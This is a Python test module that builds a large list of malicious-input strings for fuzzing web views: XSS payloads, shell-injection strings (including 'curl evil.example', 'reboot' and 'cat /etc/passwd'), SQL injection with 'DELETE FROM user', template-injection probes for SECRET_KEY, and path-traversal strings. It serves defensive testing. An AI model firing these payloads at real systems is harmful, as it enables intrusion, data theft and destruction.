"""More texts than tests/views/naughty.py, as broad as the big list of naughty strings: made by families."""

# ruff: noqa: E501  a family stands on one line

from html import escape

from tests.views.naughty import STRINGS

_ELEMENTS = [
    "script",
    "img",
    "svg",
    "iframe",
    "body",
    "video",
    "math",
    "style",
    "a",
    "form",
    "object",
    "details",
]
_HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart"]
_CALL = "alert(1)"
_BREAKS = [
    '"',
    "'",
    "`",
    "-->",
    "</textarea>",
    "</option>",
    "</title>",
    "]]>",
    '"/>',
    "'/>",
    "&quot;",
    "\\x22",
]
_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "data:text/html,",
]
_COMMANDS = ["id", "reboot", "cat /etc/passwd", "sleep 9", "curl evil.example"]
_SHELLS = ["$({})", "`{}`", "; {}", "| {}", "&& {}", "\n{}", "|| {}", "%0a{}", "$({})#", "'; {} #", '"; {} #']
_QUERIES = [
    "' OR 1=1 --", "') OR ('1'='1", "\" OR 1=1 --", "1 OR 1=1", "'; DELETE FROM user; --", "' UNION SELECT 1 --",
    "1'1", "1 EXEC XP_", "' AND 1=(SELECT 1)", "'||'a'||'", "%27%20OR%201=1", "admin'--", "\\'; --", "' LIMIT 1 --",
]  # fmt: skip
_TEMPLATES = [
    "{{%s}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%% print(%s) %%}",
    "%%(%s)s",
    "{%s}",
    "*{%s}",
    "@(%s)",
]
_THINGS = ["7*7", "config", "request", "self.__init__", "''.__class__", "url_for", "SECRET_KEY"]
_PATHS = ["etc/passwd", "windows/win.ini", "instance/secret_key", "proc/self/environ"]
_CLIMBS = ["../", "..\\", "%2e%2e/", "....//", "..%2f", "..%c0%af", "/", "file:///", "C:\\"]
_SIGNS, _FIGURES = (
    ["", "-", "+", "--", "$", "#"],
    ["0", "08", "1e5", "1.5.5", "1,5", "1/0", "1_0", "0b1", "0o7", "1'0"],
)
_NUMBERS = [sign + figure for sign in _SIGNS for figure in _FIGURES] + ["." * n for n in (1, 2, 3)]
# Seven letters of each of these writings, of which some run from right to left, join, stack or have no case.
_BLOCKS = [
    0x0041, 0x00C0, 0x0100, 0x0180, 0x0250, 0x0370, 0x0400, 0x0531, 0x05D0, 0x0620, 0x0710, 0x0780, 0x0905, 0x0985,
    0x0A05, 0x0B05, 0x0B85, 0x0C05, 0x0D05, 0x0E01, 0x0E81, 0x0F40, 0x1000, 0x10A0, 0x1100, 0x1200, 0x13A0, 0x1680,
    0x16A0, 0x1780, 0x1820, 0x1E00, 0x1F00, 0x2070, 0x20A0, 0x2150, 0x2190, 0x2200, 0x2460, 0x2500, 0x2600, 0x2800,
    0x3041, 0x30A1, 0x4E00, 0xAC00, 0xFB00, 0xFE70, 0xFF21, 0x10330, 0x12000, 0x1D400, 0x1D538, 0x1F170, 0x1F300,
    0x1F600, 0x1F900, 0x20000,
]  # fmt: skip
_SCRIPTS = ["".join(chr(first + place) for place in range(7)) for first in _BLOCKS]
_INVISIBLE = [
    chr(code) for code in (*range(1, 32), 127, *range(128, 160), 0xA0, 0x1680, 0x180E, *range(0x2000, 0x2010))
]
_INVISIBLE += [
    chr(code) for code in (0x2028, 0x2029, 0x202A, 0x202E, 0x2060, 0x2066, 0x2069, 0x3000, 0xFE0F, 0xFEFF)
]
_WORDS = [
    "nil",
    "NULL",
    "(null)",
    "FALSE",
    "toString",
    "constructor",
    "__proto__",
    "CON",
    "NUL",
    "LPT1",
    "O'Brien",
    "Мария-Анна",
    "de la Cruz",
]

MANY = list(
    dict.fromkeys(
        [
            *STRINGS,
            *(f"<{tag} {handler}={_CALL}>" for tag in _ELEMENTS for handler in _HANDLERS),
            *(f"{broken}<script>{_CALL}</script>" for broken in _BREAKS),
            *(f"{broken} onfocus={_CALL} autofocus x=" for broken in _BREAKS),
            *(f'<a href="{scheme}{_CALL}">x</a>' for scheme in _SCHEMES),
            *(escape(f"<img src=x {handler}={_CALL}>") for handler in _HANDLERS),
            *(shell.format(command) for shell in _SHELLS for command in _COMMANDS),
            *_QUERIES,
            *(template % thing for template in _TEMPLATES for thing in _THINGS),
            *(climb * 3 + path for climb in _CLIMBS for path in _PATHS),
            *_NUMBERS,
            *_SCRIPTS,
            *(f"a{letter}b" for letter in _INVISIBLE),
            *_WORDS,
        ]
    )
)
